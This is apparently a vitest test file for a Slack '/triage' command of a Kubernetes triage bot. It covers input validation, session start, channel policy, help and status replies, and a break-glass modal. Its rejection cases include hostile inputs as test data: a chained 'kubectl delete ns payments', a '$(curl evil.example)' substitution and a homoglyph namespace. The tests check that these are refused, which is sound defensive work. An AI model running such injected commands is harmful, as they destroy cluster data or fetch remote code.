import { describe, expect, it } from 'vitest';
import { DEMO_IDS, messageBlockProblems, viewProblems } from '../../../local/slack/index.js';
import { openSession, send, slashBody, startSlackHarness, useSlackHarness } from '../../support/slack-harness.js';

interface Reply {
  response_type: string;
  text: string;
  blocks?: unknown[];
}

describe('/triage through the real handler', () => {
  const h = useSlackHarness();

  async function triage(text: string, options: { user?: string; channel?: string; triggerId?: string } = {}) {
    const response = await send(h.handle, slashBody(text, options));
    expect(response.statusCode).toBe(200);
    const reply = JSON.parse(response.body || '{}') as Reply;
    if (reply.blocks !== undefined) expect(messageBlockProblems(reply.blocks)).toEqual([]);
    return reply;
  }

  const nothingStarted = () => {
    expect(h.workflow.started).toEqual([]);
    expect(h.slack.callsFor('chat.postMessage')).toEqual([]);
  };

  it.each([
    ['empty', '   ', /Tell me what is wrong and where/],
    [
      '4,000 characters',
      'pods pending '.repeat(308).slice(0, 4000),
      /4,000 characters; a triage request is at most 1,000/,
    ],
    ['shell metacharacters', 'crashloop in payments; kubectl delete ns payments', /never run shell commands.*`;`/],
    ['command substitution', 'oom in payments $(curl evil.example)', /`\$\(`/],
    ['Cyrillic homoglyph namespace', 'pods stuck pending in pаyments', /Cyrillic "а" \(U\+0430\).*-n payments/],
    ['upper-case namespace', 'pods stuck pending -n Payments', /upper-case letters \(did you mean "payments"\?\)/],
    ['namespace with underscore', 'pods stuck pending -n pay_ments', /"_"/],
    ['namespace too long', `pods stuck pending -n ${'a'.repeat(70)}`, /70 characters long \(at most 63\)/],
  ])('answers %s input with a specific ephemeral message and starts nothing', async (_name, text, expected) => {
    const reply = await triage(text);
    expect(reply.response_type).toBe('ephemeral');
    expect(reply.text).toMatch(expected);
    nothingStarted();
  });

  it('starts a session: thread root in the channel, then the workflow', async () => {
    const reply = await triage('pods stuck pending in payments since the 14:00 deploy');
    expect(reply.text).toMatch(/Triage started \(session `[A-Z0-9]+`\)/);
    const [post] = h.slack.callsFor('chat.postMessage');
    expect(post?.args['channel']).toBe(DEMO_IDS.incidents);
    expect(post?.response['ok']).toBe(true);
    expect(h.workflow.started).toEqual([
      {
        channelId: DEMO_IDS.incidents,
        threadTs: post?.response['ts'],
        requester: DEMO_IDS.requester,
        text: 'pods stuck pending in payments',
        intent: 'scheduling-failures',
        namespace: 'payments',
        cluster: 'demo',
        // The channel names no namespaces: every one but the platform's.
        scope: ['*'],
        note: 'since the 14:00 deploy',
      },
    ]);
  });

  it.each([
    ['vague words', 'something is wrong with the storefront in shop', 'namespace-sweep', 'shop'],
    ['words in no language calmops knows', '🔥🔥🔥 ничего не работает', 'namespace-sweep', undefined],
    ['a symptom without a namespace', 'the orders page times out', 'service-connectivity', undefined],
  ])('starts a session for %s instead of refusing', async (_name, text, intent, namespace) => {
    const reply = await triage(text);
    expect(reply.text).toMatch(/Triage started/);
    expect(h.workflow.started).toHaveLength(1);
    const started = h.workflow.started[0];
    expect(started).toMatchObject({ text, intent });
    expect(started?.namespace).toBe(namespace);
    const root = String(h.slack.callsFor('chat.postMessage')[0]?.args['text']);
    if (namespace === undefined) expect(root).toMatch(/a namespace still to be found/);
  });

  it('starts nothing twice for a double submission of the same command', async () => {
    await triage('pvc-binding -n checkout', { triggerId: 'trigger.same.1' });
    await triage('pvc-binding -n checkout', { triggerId: 'trigger.same.1' });
    expect(h.workflow.started).toHaveLength(1);
    expect(h.slack.callsFor('chat.postMessage')).toHaveLength(1);
  });

  it('explains instead of starting in a DM', async () => {
    const reply = await triage('pods stuck pending in payments', { channel: DEMO_IDS.dm });
    expect(reply.text).toMatch(/not in direct messages/);
    nothingStarted();
  });

  it('explains instead of starting in a channel the bot is not in', async () => {
    const reply = await triage('pods stuck pending in payments', { channel: DEMO_IDS.notMember });
    expect(reply.text).toMatch(/not a member of this channel.*nothing was started/);
    nothingStarted();
  });

  it('refuses an intent the channel policy does not allow', async () => {
    const restricted = await startSlackHarness({
      policy: (await import('../../../src/policy/channel-policy.js')).parsePolicy({
        channels: {
          [DEMO_IDS.incidents]: {
            cluster: 'prod-eu',
            allowedIntents: ['pvc-binding'],
            approverGroup: DEMO_IDS.approvers,
            seniorGroup: DEMO_IDS.seniors,
          },
        },
      }),
    });
    try {
      const response = await send(restricted.handle, slashBody('crash loop in payments'));
      expect(JSON.parse(response.body).text).toMatch(
        /`crashloop-analysis` is not enabled in this channel.*`pvc-binding`/,
      );
      expect(restricted.workflow.started).toEqual([]);
      const ok = await send(restricted.handle, slashBody('pvc-binding -n payments'));
      expect(JSON.parse(ok.body).text).toMatch(/Triage started/);
      expect(restricted.workflow.started[0]?.cluster).toBe('prod-eu');
    } finally {
      await restricted.close();
    }
  });

  it('answers help, intents, list, status and stats ephemerally with valid blocks', async () => {
    const { session } = await openSession(h);
    const help = await triage('help');
    expect(help.text).toContain('/triage <what is wrong> in <namespace>');
    const intents = await triage('intents');
    expect(intents.text).toContain('pvc-binding');
    const list = await triage('list');
    expect(JSON.stringify(list.blocks)).toContain(session.id);
    const status = await triage(`status ${session.id}`);
    expect(status.text).toContain(`Session ${session.id}: GATHERING, pvc-binding in payments`);
    const missing = await triage('status 01NOSUCHSESSION');
    expect(missing.text).toMatch(/No session `01NOSUCHSESSION` exists/);
    const stats = await triage('stats');
    expect(stats.text).toMatch(/Diagnosis metrics/);
  });

  it('opens the break-glass modal for the requester’s open session', async () => {
    const { session } = await openSession(h, { state: 'HYPOTHESIZING' });
    const response = await send(h.handle, slashBody(`breakglass ${session.id}`));
    expect(response.statusCode).toBe(200);
    const [open] = h.slack.callsFor('views.open');
    expect(open?.response['ok']).toBe(true);
    expect(viewProblems(open?.args['view'])).toEqual([]);
    const view = open?.args['view'] as { private_metadata: string; blocks: { block_id?: string }[] };
    expect(JSON.parse(view.private_metadata)).toMatchObject({ s: session.id, c: DEMO_IDS.incidents });
    expect(view.blocks.map((b) => b.block_id).filter(Boolean)).toEqual([
      'justification',
      'seniorApprover',
      'skipToState',
      'timeLimitMinutes',
      'change',
    ]);
  });

  it('asks which session `/triage breakglass` is for when several are open, and opens no form', async () => {
    const first = await openSession(h, { state: 'HYPOTHESIZING' });
    const second = await openSession(h, { state: 'TESTING' });
    const opened = h.slack.callsFor('views.open').length;
    const answer = await triage('breakglass');
    expect(answer.text).toMatch(/^Which session\? Break glass applies to one session/);
    expect(answer.text).toContain(first.session.id);
    expect(answer.text).toContain(second.session.id);
    expect(h.slack.callsFor('views.open')).toHaveLength(opened);
  });
});
